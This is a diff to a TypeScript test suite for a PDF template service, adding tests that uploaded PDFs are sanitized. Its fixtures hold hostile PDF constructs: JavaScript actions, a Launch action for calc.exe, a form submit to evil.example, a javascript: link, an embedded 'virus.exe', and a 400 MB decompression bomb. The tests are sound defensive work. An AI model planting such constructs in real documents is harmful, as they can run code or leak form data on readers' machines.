@@ -4,6 +4,8 @@ import { deflateSync } from 'node:zlib'
 import type { CreatedTemplate, DraftAnswer, Problem } from '@platen/contract'
 import { expect } from 'chai'
 import { type DashboardSession, signUp } from './parts/dashboard-session.ts'
+import { createAsCaller } from './parts/print-as-caller.ts'
+import { readPrintedWords } from './parts/printed-words.ts'
 import { qpdf } from './parts/qpdf.ts'
 import { shareStack, type SharedStack } from './parts/stack.ts'
 
@@ -130,6 +132,42 @@ describe('a PDF that is uploaded', () => {
     expect(kept).to.include('https://example.com/kept')
   })
 
+  it('loses that wherever it stands: within another object, in a list, under a key of its own', async () => {
+    const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
+    const launch = '<</S/Launch/F(calc.exe)>>'
+    const bytes = pdfOf(
+      `<</Type/Catalog/Pages 2 0 R/URI<</Base(file:///)>>/Requirements[<</S/EnableJavaScripts>>]/Outlines<</First<</Title(x)/A${launch}>>>>/AcroForm<</Fields[<</T(a)/FT/Tx/AA<</K${script}>>/Kids[<</A<</S/SubmitForm/F(https://evil.example)>>>>]>>]>>>>`,
+      onePage,
+      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Annots[<</Subtype/Link/Rect[0 0 9 9]/A${launch}>> <</Subtype/Link/Rect[0 0 9 9]/A[${script}]>> <</Subtype/Link/Rect[0 0 9 9]/PA${launch}>> <</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert\\(1\\))>>>> <</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.com/kept)>>>>]/PresSteps<</NA${script}>>/AF[<</Type/Filespec/F(virus.exe)/EF<</F 4 0 R>>>>]/Resources<</XObject<</X 5 0 R/Y 6 0 R>>/Font<</AA<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>/A<</Type/Font/Subtype/Type1/BaseFont/Courier>>>>>>/Contents 7 0 R>>`,
+      stream(Buffer.from('MZ payload')),
+      stream(
+        Buffer.from(''),
+        '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(other.pdf)/Page 0>>/OPI<</2.0<</F(low.tif)>>>>',
+      ),
+      stream(Buffer.from('(program) print'), '/Type/XObject/Subtype/PS'),
+      stream(Buffer.from('BT /AA 12 Tf 20 100 Td (kept words) Tj /A 12 Tf ( in Courier) Tj ET')),
+    )
+    const { status, templateId, detail } = await upload(bytes)
+    expect(status, detail).to.equal(201)
+    const kept = await keptOf(templateId)
+    const gone = [
+      'JavaScript',
+      'alert',
+      'calc.exe',
+      'evil.example',
+      'virus.exe',
+      'payload',
+      'other.pdf',
+      'low.tif',
+      'program',
+      'file:',
+    ]
+    for (const part of gone) expect(kept, part).to.not.include(part)
+    // What only has the name of such a thing stays.
+    for (const part of ['https://example.com/kept', 'kept words', 'Courier', 'Helvetica'])
+      expect(kept, part).to.include(part)
+  })
+
   it('that was signed: its author hears that the signature does not hold any more', async () => {
     const signed = pdfOf(
       '<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[4 0 R]>>>>',
@@ -141,6 +179,45 @@ describe('a PDF that is uploaded', () => {
     expect((await upload(signed)).notes.join(' ')).to.match(/was signed/)
   })
 
+  describe('whose content leaves things open is drawn over where it should be', () => {
+    const contents: Record<string, string> = {
+      nothing: '0 0 1 rg 0 0 9 9 re f',
+      'states closed too often, and the page scaled then': `${'Q '.repeat(9)} 0.1 0 0 0.1 0 0 cm`,
+      'states not closed': `${'q '.repeat(40)} 0.1 0 0 0.1 0 0 cm`,
+      'a string': 'BT (open \\( words',
+      'a string that ends with a backslash': '(open \\',
+      'a dictionary': '/A <</X [ (',
+      'a text': 'BT 1 0 0 1 90 90 Tm',
+      'a picture in the line with brackets': 'BI /W 1 /H 1 /BPC 8 /CS /G ID ( EI Q Q',
+    }
+    for (const [name, content] of Object.entries(contents))
+      it(name, async () => {
+        const { templateId, status, detail } = await upload(
+          pdfOf(catalog, onePage, page.replace('>>', '/Contents 4 0 R>>'), stream(Buffer.from(content))),
+        )
+        expect(status, detail).to.equal(201)
+        const { source, revision } = (await (
+          await session.fetch(`/templates/${templateId}/draft`)
+        ).json()) as DraftAnswer
+        const html =
+          '<section data-page="1"><div data-box="text" style="left:40pt;top:60pt;width:90pt;height:20pt;font:12pt/1.2 \'Noto Sans\'">{{a}}</div></section>'
+        const files = { ...source.files, 'template.html': html, 'sample.json': '{"a":"x"}' }
+        const saved = await session.fetch(`/templates/${templateId}/draft`, {
+          method: 'PUT',
+          json: { revision, source: { ...source, files } },
+        })
+        const next = (await saved.json()) as { revision: number }
+        await session.fetch(`/templates/${templateId}/publish`, {
+          method: 'POST',
+          json: { revision: next.revision },
+        })
+        const made = await createAsCaller({ stack, session }, { templateId, data: { a: 'Here' } })
+        const [word] = (await readPrintedWords(made)).filter(({ text }) => text === 'Here')
+        expect(word?.left).to.be.closeTo(40, 0.5)
+        expect(word?.baseline).to.be.within(68, 78)
+      })
+  })
+
   describe('hostile ones have a clear answer, and nobody else waits', () => {
     const many = (count: number) =>
       pdfOf(
@@ -150,6 +227,14 @@ describe('a PDF that is uploaded', () => {
       )
     const bomb = deflateSync(Buffer.alloc(400 * 2 ** 20))
     const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`
+    const withLook = (look: Buffer) =>
+      pdfOf(
+        '<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]/DA(/Helv 0 Tf)>>>>',
+        onePage,
+        page.replace('>>', '/Annots[4 0 R]>>'),
+        '<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[10 10 90 30]/AP<</N 5 0 R>>>>',
+        stream(look, '/Type/XObject/Subtype/Form/BBox[0 0 80 20]/Filter/FlateDecode'),
+      )
     const cases: Record<string, [Buffer, { status: number; says?: RegExp }]> = {
       'no PDF at all': [Buffer.from('hello'), { status: 422, says: /no PDF/ }],
       'only a head': [Buffer.from('%PDF-1.7\n'), { status: 422, says: /damaged|no PDF/ }],
@@ -173,6 +258,15 @@ describe('a PDF that is uploaded', () => {
       ],
       'arrays in arrays, 200,000 deep': [
         pdfOf(catalog, onePage, page.replace('>>', `/X ${deep}>>`)),
+        { status: 422 },
+      ],
+      'a field whose look begins again and again': [
+        withLook(deflateSync(Buffer.from('/Tx BMC '.repeat(130_000)))),
+        { status: 201 },
+      ],
+      'a field whose look unpacks to 400 MB': [withLook(bomb), { status: 201 }],
+      '20 MB of beginnings of objects': [
+        Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('1 0 obj\n<<'.repeat(2_000_000))]),
         { status: 422 },
       ],
       'boxes that are none': [
